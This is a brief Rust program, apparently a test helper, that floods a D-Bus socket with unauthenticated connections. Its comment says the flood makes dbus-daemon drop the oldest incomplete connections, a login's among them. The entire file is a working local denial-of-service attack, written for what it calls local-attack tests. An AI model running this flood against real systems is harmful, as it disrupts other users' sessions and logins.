//! A local user's flood of bare connections to a bus socket: each connects and never
//! authenticates, so dbus-daemon counts it as incomplete and, over its limit, drops the
//! oldest incomplete connections — a login's among them. For the local-attack tests.
//! Usage: bus_flood SOCKET_PATH SECONDS

use std::os::unix::net::UnixStream;
use std::time::{Duration, Instant};

/// Connections held at once: well over dbus-daemon's 64 incomplete ones.
const HELD: usize = 256;

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let (Some(socket), Some(seconds)) = (args.get(1), args.get(2).and_then(|s| s.parse().ok()))
    else {
        eprintln!("usage: bus_flood SOCKET_PATH SECONDS");
        std::process::exit(2);
    };
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut held = std::collections::VecDeque::new();
    let mut opened = 0u64;
    eprintln!("flooding");
    while Instant::now() < end {
        match UnixStream::connect(socket) {
            Ok(s) => {
                opened += 1;
                held.push_back(s);
                if held.len() > HELD {
                    held.pop_front();
                }
            }
            Err(_) => std::thread::sleep(Duration::from_millis(1)),
        }
    }
    println!("{opened}");
}
